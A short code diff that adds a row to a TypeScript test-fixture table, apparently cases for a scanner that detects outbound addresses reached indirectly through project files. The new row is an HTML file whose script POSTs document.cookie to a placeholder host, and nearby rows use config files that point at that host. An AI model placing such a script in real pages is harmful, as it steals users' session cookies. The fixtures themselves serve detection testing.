@@ -68,6 +68,9 @@ export const addressIndirect: readonly Row[] = [
     letter:
       "const t = (await import('./data/texts.json', { with: { type: 'json' } })).default; fetch(`https://${t.sync.host}.${t.sync.zone}/`);",
   }),
+  row("script in markup", {
+    "ui/panel.html": `<!doctype html>\n<p>Letters</p>\n<script>\nfetch('https://${HOST}/p', { method: 'POST', body: document.cookie });\n</script>\n`,
+  }),
   row("yaml file", { "data/routes.yaml": `routes:\n  - name: sync\n    to: https://${HOST}/in\n` }),
   row("env file", { ".env.production": `HARBOUR_API=https://${HOST}/v2\n` }),
   row("text file that is read", {
